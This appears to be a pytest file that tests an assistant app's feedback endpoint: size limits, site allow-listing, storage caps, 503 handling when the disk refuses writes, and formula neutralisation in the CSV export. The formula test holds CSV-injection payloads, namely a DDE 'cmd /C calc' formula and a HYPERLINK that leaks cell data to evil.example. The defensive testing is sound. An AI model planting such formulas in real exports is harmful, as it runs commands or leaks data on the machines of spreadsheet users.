"""Issue 13, finding 1 and part of 13: feedback cannot fill the disk, name an unknown site, or plant a formula in the
evaluators' spreadsheet, and a store that cannot be written gives 503 with the JSON envelope, not 500.

The real app over the session's fixture index (in-process, so a 1 MB header reaches the route whatever limit the
server in front has), the real ``assistant feedback export`` command, and a real ``assistant serve`` whose file
size limit (RLIMIT_FSIZE, set from outside with prlimit) makes the disk refuse the write, as a full disk does.
"""

from __future__ import annotations

import csv
import io
import resource
from collections.abc import Callable, Iterator
from pathlib import Path

import httpx
import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from assistant.api.app import create_app
from assistant.api.feedback import FeedbackStore
from assistant.cli import app as cli
from assistant.config import Settings
from tests.reliability.conftest import ANSWER, ServeProcess

MB = 1024 * 1024
GOOD = {"rating": "up", "question": "When did the 2024 call close?", "answer": "19 September 2024 [1].", "sources": []}


@pytest.fixture
def make_client(indexed_settings: Settings, service, tmp_path: Path) -> Iterator[Callable[..., TestClient]]:  # noqa: ANN001
    clients: list[TestClient] = []

    def make(**overrides: object) -> TestClient:
        values = {"data_dir": tmp_path / "api-data", "rate_limit": "0", "sites": {"aiccre": ["https://a.it"]}}
        settings = indexed_settings.model_copy(update={**values, **overrides})
        client = TestClient(create_app(settings, service), raise_server_exceptions=False)
        clients.append(client.__enter__())
        return client

    yield make
    for client in clients:
        client.__exit__(None, None, None)


def exported(data_dir: Path, monkeypatch: pytest.MonkeyPatch) -> list[dict[str, str]]:
    """The rows `assistant feedback export` writes for ``data_dir``."""
    monkeypatch.setenv("ASSISTANT_DATA_DIR", str(data_dir))
    result = CliRunner().invoke(cli, ["feedback", "export"])
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(result.stdout)))


def assert_error(response: httpx.Response, status: int, code: str) -> None:
    assert response.status_code == status, response.text
    assert response.json()["error"]["code"] == code and response.json()["error"]["message"]


def test_a_1_mb_site_header_is_refused_and_nothing_is_stored(
    make_client: Callable[..., TestClient], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    client = make_client()
    for _ in range(3):
        refused = client.post("/api/feedback", json=GOOD, headers={"X-Assistant-Site": "x" * MB})
        assert_error(refused, 422, "invalid_request")
        assert len(refused.content) < 1000  # the header is not echoed either
    assert exported(tmp_path / "api-data", monkeypatch) == []
    assert (tmp_path / "api-data" / "feedback.sqlite").stat().st_size < 100_000


def test_only_configured_sites_and_the_demo_page_are_accepted(
    make_client: Callable[..., TestClient], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    client = make_client()
    assert_error(client.post("/api/feedback", json={**GOOD, "site": "evil"}), 422, "invalid_request")
    assert_error(client.post("/api/feedback", json=GOOD, headers={"X-Assistant-Site": "evil"}), 422, "invalid_request")
    assert client.post("/api/feedback", json={**GOOD, "site": "aiccre"}).status_code == 200
    assert client.post("/api/feedback", json=GOOD, headers={"X-Assistant-Site": "aiccre"}).status_code == 200
    # The same-origin demo page (data-site="demo") works in the default configuration, where no site is set.
    default = make_client(sites={}, data_dir=tmp_path / "default-data")
    assert default.post("/api/feedback", json=GOOD, headers={"X-Assistant-Site": "demo"}).status_code == 200
    assert [r["site"] for r in exported(tmp_path / "api-data", monkeypatch)] == ["aiccre", "aiccre"]


@pytest.mark.parametrize("field", ["title", "url", "snippet"])
def test_huge_source_fields_are_refused(
    make_client: Callable[..., TestClient], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, field: str
) -> None:
    client = make_client(max_body_bytes=4 * MB)  # so the field caps, not the body limit, are what refuses
    source = {"title": "T", "url": "https://e.eu", "snippet": "s", field: "x" * 64 * 1024}
    assert_error(client.post("/api/feedback", json={**GOOD, "sources": [source]}), 422, "invalid_request")
    assert_error(
        client.post("/api/feedback", json={**GOOD, "sources": [{"title": "T", "snippet": "s"}] * 21}),
        422,
        "invalid_request",
    )
    assert exported(tmp_path / "api-data", monkeypatch) == []


def test_the_oldest_rows_are_dropped_past_the_row_cap(
    make_client: Callable[..., TestClient], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    client = make_client(feedback_max_rows=3)
    for i in range(5):
        assert client.post("/api/feedback", json={**GOOD, "comment": f"c{i}"}).status_code == 200
    assert [r["comment"] for r in exported(tmp_path / "api-data", monkeypatch)] == ["c2", "c3", "c4"]


def test_the_store_stays_under_its_byte_cap_and_the_file_stops_growing(tmp_path: Path) -> None:
    store = FeedbackStore(tmp_path / "feedback.sqlite", max_rows=10_000, max_bytes=200_000)
    sizes = []
    for i in range(150):  # 150 rows of 20 KB: 3 MB offered to a 200 KB store
        store.add(rating="down", question=f"q{i}", answer="a" * 20_000, sources=[], comment=None, site=None)
        sizes.append(store.path.stat().st_size)
    out = io.StringIO()
    count = store.export_csv(out)
    assert 5 <= count <= 10 and list(csv.DictReader(io.StringIO(out.getvalue())))[-1]["question"] == "q149"
    assert sizes[-1] == sizes[50] and sizes[-1] < 400_000  # freed pages are reused: the file is bounded


def test_formulas_in_feedback_are_neutralised_in_the_csv_export(
    make_client: Callable[..., TestClient], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    client = make_client()
    hostile = {
        **GOOD,
        "question": "+cmd|' /C calc'!A0",
        "answer": "@SUM(1+1)*cmd|' /C calc'!A0",
        "comment": '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
        "sources": [{"title": "-2+3", "url": None, "snippet": "s"}],
    }
    assert client.post("/api/feedback", json=hostile).status_code == 200
    assert client.post("/api/feedback", json={**GOOD, "comment": "\t=1+1"}).status_code == 200
    first, second = exported(tmp_path / "api-data", monkeypatch)
    assert first["comment"] == "'" + hostile["comment"]
    assert first["question"] == "'" + hostile["question"] and first["answer"] == "'" + hostile["answer"]
    assert second["comment"] == "'\t=1+1"
    assert first["sources"].startswith("[")  # JSON text starts with [: nothing to neutralise, nothing changed


def test_feedback_on_a_store_that_cannot_be_opened_is_503_and_recovers(
    make_client: Callable[..., TestClient], tmp_path: Path
) -> None:
    blocker = tmp_path / "api-data" / "feedback.sqlite"
    blocker.mkdir(parents=True)  # what the store should open is a folder: SQLite cannot open it (root or not)
    client = make_client()  # the service starts anyway and answers questions
    refused = client.post("/api/feedback", json=GOOD)
    assert_error(refused, 503, "feedback_unavailable")
    assert refused.headers["retry-after"]
    assert client.post("/api/ask", json={"question": GOOD["question"]}).status_code == 200
    blocker.rmdir()
    assert client.post("/api/feedback", json=GOOD).status_code == 200


@pytest.mark.slow
def test_disk_refusing_the_write_gives_503_on_a_real_server(served: ServeProcess) -> None:
    """RLIMIT_FSIZE at the database's current size: the kernel refuses to grow the file (EFBIG), as a full disk
    refuses (ENOSPC); SQLite reports an I/O error either way."""
    url = f"{served.url}/api/feedback"
    assert httpx.post(url, json=GOOD, timeout=30).status_code == 200
    database = next(Path(served.log_path.parent).rglob("feedback.sqlite"))
    soft, hard = resource.prlimit(served.proc.pid, resource.RLIMIT_FSIZE)
    resource.prlimit(served.proc.pid, resource.RLIMIT_FSIZE, (database.stat().st_size, hard))
    try:
        big = {**GOOD, "answer": "a" * 20_000}
        for _ in range(3):
            refused = httpx.post(url, json=big, timeout=30)
            assert_error(refused, 503, "feedback_unavailable")
        assert served.alive()
    finally:
        resource.prlimit(served.proc.pid, resource.RLIMIT_FSIZE, (soft, hard))
    assert httpx.post(url, json=big, timeout=30).status_code == 200  # space is back: stored again
    answered = served.ask()
    assert answered.status_code == 200 and ANSWER in answered.json()["answer"]
